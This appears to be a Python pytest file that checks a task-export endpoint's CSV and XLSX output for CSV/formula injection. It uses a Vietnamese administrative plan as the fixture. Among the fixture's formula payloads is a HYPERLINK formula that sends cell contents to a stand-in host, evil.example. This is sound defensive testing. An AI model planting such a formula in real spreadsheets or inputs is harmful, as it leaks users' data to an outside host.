"""Task exports over HTTP (``GET /tasks?format=csv|xlsx``) never carry a live formula (CSV injection)."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from .conftest import upload

PLAN = (
    "KẾ HOẠCH\nCải cách hành chính năm 2026\n"
    'Giao Sở Y tế: =HYPERLINK("http://evil.example/?"&B2&C2,"Bấm vào đây") rà soát hồ sơ cấp phép, hoàn thành trước ngày 30/6/2026.\n'
    "Giao Sở Tư pháp: @SUM(A1:A9) rà soát văn bản quy phạm pháp luật, hoàn thành trước ngày 30/6/2026.\n"
    "Giao Sở Tài chính: +1+1 rà soát văn bản quy phạm pháp luật, hoàn thành trước ngày 30/6/2026.\n"
)


@pytest.fixture
def plan_id(client) -> int:
    answer = upload(client, ("ke-hoach-cong-thuc.txt", PLAN.encode("utf-8")))
    assert answer.status_code == 201, answer.text
    doc_id = answer.json()["files"][0]["document_id"]
    tasks = client.get("/tasks", params={"document": doc_id}).json()["tasks"]
    assert any(t["task"].startswith("=HYPERLINK(") for t in tasks), tasks  # the extractor keeps the formula text
    return doc_id


def _params(scope: str, doc_id: int, fmt: str) -> dict:
    return {"format": fmt, **({"document": doc_id} if scope == "document" else {})}


@pytest.mark.parametrize("scope", ["all", "document"])
def test_xlsx_export_has_no_formula(client, plan_id, scope):
    answer = client.get("/tasks", params=_params(scope, plan_id, "xlsx"))
    assert answer.status_code == 200
    with zipfile.ZipFile(io.BytesIO(answer.content)) as z:
        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert not re.search(r"<f[ >/]", xml)
    values = [c.value for row in load_workbook(io.BytesIO(answer.content)).active.iter_rows() for c in row]
    texts = [v for v in values if isinstance(v, str)]
    assert any(v.startswith("=HYPERLINK(\"http://evil.example/?\"&B2&C2") for v in texts), texts
    assert any(v.startswith("@SUM(A1:A9)") for v in texts) and any(v.startswith("+1+1") for v in texts)


@pytest.mark.parametrize("scope", ["all", "document"])
def test_csv_export_prefixes_formula_cells(client, plan_id, scope):
    answer = client.get("/tasks", params=_params(scope, plan_id, "csv"))
    assert answer.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")) for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
    assert any(c.startswith("'@SUM(A1:A9)") for c in cells) and any(c.startswith("'+1+1") for c in cells)
    assert "Sở Y tế" in cells
